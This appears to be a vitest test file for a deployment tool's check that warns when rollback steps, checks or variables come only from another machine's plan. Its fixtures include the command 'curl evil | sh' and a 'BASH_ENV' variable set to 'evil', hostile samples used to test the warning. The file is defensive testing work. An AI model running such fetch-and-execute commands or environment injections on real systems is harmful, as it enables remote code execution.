import {expect, test} from 'vitest';
import type {PlanStep} from '../../src/domain/plan.ts';
import type {Project} from '../../src/domain/project.ts';
import {warnOfStrangers} from '../../src/engine/warnOfStrangers.ts';
import {command, environment, migration, onTargets, project} from '../support/samples.ts';
import {runStep} from '../support/shop.ts';
import {given, released} from '../support/story.ts';

const own: Project = {...project, phases: {deploy: [runStep('push', 'deploy', 'deploy back')]}};
const undoes = {release: 1, step: 'push'};

/** The ids of the steps that are warned of, where #1 was planned elsewhere and #2 was not. */
function warned(...steps: readonly PlanStep[]): readonly string[] {
	const {book} = given(released('v1'), released('v2'));
	const [older, newer] = [book.release(1), book.release(2)];
	const here = {project: own, environment: {...environment, env: {LIVE: 'file'}}};
	const plan = warnOfStrangers({steps, secrets: []}, [newer, older], [older], here);
	return plan.steps.flatMap(({id, warn}) => (warn === undefined ? [] : [`${id}: ${warn}`]));
}

test('what only the plan of another machine says is told, with its release and who made it', () => {
	expect(warned(command('undo-push', 'curl evil | sh', {undoes}))).toEqual([
		'undo-push: what it runs, only the plan of #1 by ana@bastion says',
	]);
	expect(warned(command('undo-push', 'x', {undoes, warn: 'slow'}))).toEqual([
		expect.stringMatching(/^undo-push: slow; /),
	]);
	expect(warned(migration('0001', {direction: 'down', undoes}))).toHaveLength(1);
	expect(warned(command('undo-push', 'deploy back', {undoes, ...onTargets(['web1'], {check: 'evil'})}))).toHaveLength(
		1,
	);
	expect(warned(command('undo-push', 'deploy back', {undoes, variables: {BASH_ENV: 'evil'}}))).toHaveLength(1);
	expect(warned(command('open', 'evil', {closes: 'maintenance'}))).toHaveLength(1);
});

test('what the configuration of this machine says as well, and what was planned here, is not', () => {
	const variables = {RELEASE_SHA: 'a', LIVE: 'file'};
	expect(warned(command('undo-push', 'deploy back', {undoes, variables}))).toEqual([]);
	expect(warned(command('undo-push', 'of our own', {undoes: {release: 2, step: 'push'}}))).toEqual([]);
	expect(warned(command('runbook', 'of our own'))).toEqual([]);
});
